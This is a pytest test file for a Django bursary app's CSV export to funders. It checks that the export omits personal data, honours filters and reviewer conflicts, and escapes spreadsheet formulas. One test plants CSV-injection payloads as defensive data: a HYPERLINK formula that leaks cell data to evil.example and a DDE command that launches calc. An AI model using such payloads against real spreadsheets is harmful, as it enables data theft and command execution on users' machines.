"""The CSV export for funders: figures without personal data, nothing a spreadsheet would
run, nothing a conflict hides."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from bursaries import services
from bursaries.models import Application, Review
from sanctuary.models import AuditEvent
from tests.bursaries.helpers import CHANGELIST, bulk, change_url


def test_the_csv_export_has_figures_but_no_personal_data(
    client, in_review, programme_staff, partner
):
    application = in_review(
        name="Zahra Karimi",
        contact_method=Application.Contact.REFERRER,
        email="",
        referrer_organisation=partner,
        referrer_name="Jo Caseworker",
        referrer_email="jo@newroutes.example.org",
        referrer_consent=True,
        statement="Something very personal.",
    )
    in_review(name="Olena Petrenko", contact_method="phone", email="", phone="+447911123456")
    Review.objects.update(comment="A private comment.")
    client.force_login(programme_staff)

    response = bulk(client, "export_csv", Application.objects.all(), select_across="1", index="0")

    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode()
    for private in [
        "Zahra",
        "Karimi",
        "Olena",
        "+447911123456",
        "7911",
        "jo@newroutes",
        "Jo Caseworker",
        "@",
        "Something very personal",
        "A private comment",
    ]:
        assert private not in text, private
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 2
    row = next(row for row in rows if row["reference"] == application.reference)
    assert row["requested"] == "120.00"
    assert row["referred_by"] == "New Routes"
    assert row["support_course_fee"] == "yes"
    assert row["average_score"] == "4.0"
    assert AuditEvent.objects.filter(action="application.export", actor=programme_staff).exists()


def test_export_this_list_gives_funders_every_application_the_list_shows(
    client, submit, in_review, programme_staff, reviewer
):
    reviewed = in_review(email="a@example.org")
    waiting = submit(email="b@example.org")
    client.force_login(programme_staff)
    export = reverse("admin:bursaries_application_export")
    page = client.get(CHANGELIST, {"status__exact": "in_review"}).content.decode()
    assert f'href="{export}?status__exact=in_review"' in page

    filtered = client.get(export, {"status__exact": "in_review"})
    everything = client.get(export)

    assert filtered["Content-Type"].startswith("text/csv")
    references = [row["reference"] for row in csv.DictReader(io.StringIO(filtered.text))]
    assert references == [reviewed.reference]
    references = [row["reference"] for row in csv.DictReader(io.StringIO(everything.text))]
    assert sorted(references) == sorted([reviewed.reference, waiting.reference])
    assert "Maryam" not in everything.text
    # A filter the list would not take is not taken here either.
    refused = client.get(export, {"email__startswith": "a"})
    assert refused.status_code in (302, 400)
    assert AuditEvent.objects.filter(action="application.export").count() == 2

    # Reviewers have no export: neither the link nor the address.
    client.force_login(reviewer)
    assert export not in client.get(CHANGELIST).content.decode()
    assert client.get(export).status_code == 403


def test_the_csv_export_cannot_carry_a_spreadsheet_formula(
    client, submit, programme_staff, opportunity, partner, fund
):
    opportunity.title = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    opportunity.save()
    fund.name = "+SUM(1,2)"
    fund.save()
    partner.name = "@cmd|' /C calc'!A0"
    partner.save()
    submit(referrer_organisation=partner, referrer_consent=True)
    client.force_login(programme_staff)

    response = bulk(client, "export_csv", Application.objects.all())

    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["opportunity"] == "'" + opportunity.title
    assert row["fund"] == "'+SUM(1,2)"
    assert row["referred_by"] == "'@cmd|' /C calc'!A0"
    assert row["requested"] == "120.00"  # numbers stay numbers
    assert row["status"] == "submitted"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    from bursaries.exports import spreadsheet_safe

    assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe(f"a{start}") == f"a{start}"
    assert spreadsheet_safe(Decimal("-1")) == Decimal("-1")


def test_an_export_leaves_out_what_a_conflict_hides_even_when_searched_for(
    client, in_review, programme_staff
):
    known = in_review(name="Zahra Karimi")
    other = in_review(email="other@example.org")
    services.review_declare_conflict(application_id=known.pk, reviewer=programme_staff)
    client.force_login(programme_staff)
    export = reverse("admin:bursaries_application_export")

    chosen = bulk(client, "export_csv", [other], select_across="1", index="0")
    searched = client.get(export, {"q": "Zahra"})
    # A POST naming the export but nothing else falls through to the list: the same list.
    fallen_through = client.post(CHANGELIST, {"action": "export_csv"})

    assert [row["reference"] for row in csv.DictReader(io.StringIO(chosen.text))] == [
        other.reference
    ]
    assert list(csv.DictReader(io.StringIO(searched.text))) == []
    assert known.reference not in fallen_through.content.decode()
    assert client.get(change_url(known)).status_code == 302
